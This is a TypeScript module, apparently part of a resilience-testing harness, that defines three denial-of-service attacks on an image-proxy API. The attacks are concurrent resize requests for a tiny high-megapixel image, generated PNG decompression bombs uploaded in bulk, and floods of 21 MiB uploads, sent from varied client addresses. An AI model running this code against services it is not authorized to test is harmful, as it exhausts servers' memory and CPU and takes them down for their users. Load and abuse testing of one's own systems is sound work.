import { deflateSync } from 'node:zlib';
import { sized, type Attack, type Target } from '../attack.js';
import { ask, crowdAddress, requestText, tally, withKey } from '../sockets.js';

const WIDTHS = [128, 256, 512, 1024, 2048];
const FORMATS = ['webp', 'jpeg', 'png'];

const scaledBomb: Attack = {
  name: 'scaled-bomb',
  about: 'An AVIF of 2 kB and 99 megapixels is asked for in every size and format, many at once.',
  limitMs: 240_000,
  run: async (target) => {
    const lines = await Promise.all(
      Array.from({ length: sized(target, 120, 40) }, (_, number) => {
        const query = `w=${WIDTHS[number % WIDTHS.length] ?? 128}&format=${FORMATS[number % FORMATS.length] ?? 'png'}`;
        const text = requestText('GET', `/mj/image/${target.bombId}?${query}`, { connection: 'close' });
        return ask(target, text, crowdAddress(number), 60_000);
      }),
    );
    return tally(lines);
  },
};

/** A PNG of so many pixels a side that is all one colour: some kilobytes that unpack to hundreds of megabytes. */
function flatPng(side: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([
      length,
      Buffer.from(type, 'latin1'),
      data,
      crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])),
    ]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((side * 3 + 1) * side));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

function crc32(bytes: Buffer): Buffer {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  const result = Buffer.alloc(4);
  result.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return result;
}

function submitOf(target: Target, path: string, pictures: readonly Buffer[]): string {
  const body = JSON.stringify({ prompt: 'a', base64Array: pictures.map((bytes) => bytes.toString('base64')) });
  return requestText(
    'POST',
    path,
    { ...withKey(target), 'content-type': 'application/json', connection: 'close' },
    body,
  );
}

const submittedBombs: Attack = {
  name: 'submitted-bombs',
  about: 'Pictures of kilobytes and tens of megapixels are sent in, many at once.',
  limitMs: 180_000,
  run: async (target) => {
    const under = flatPng(7_000);
    const over = flatPng(9_000);
    const lines = await Promise.all(
      Array.from({ length: sized(target, 60, 20) }, (_, number) =>
        ask(
          target,
          submitOf(target, '/mj/submit/upload-discord-images', [number % 2 === 0 ? under : over]),
          crowdAddress(number),
          60_000,
        ),
      ),
    );
    return tally(lines);
  },
};

const largeUploads: Attack = {
  name: 'large-uploads',
  about: 'Bodies of three pictures of 7 MiB each, many at once.',
  limitMs: 240_000,
  run: async (target) => {
    const noise = Buffer.alloc(7 * 1_048_576, 7);
    noise.set(flatPng(64));
    const text = submitOf(target, '/mj/submit/blend', [noise, noise, noise]);
    const lines = await Promise.all(
      Array.from({ length: sized(target, 60, 24) }, (_, number) => ask(target, text, crowdAddress(number), 60_000)),
    );
    return tally(lines);
  },
};

export const PICTURES: readonly Attack[] = [scaledBomb, submittedBombs, largeUploads];
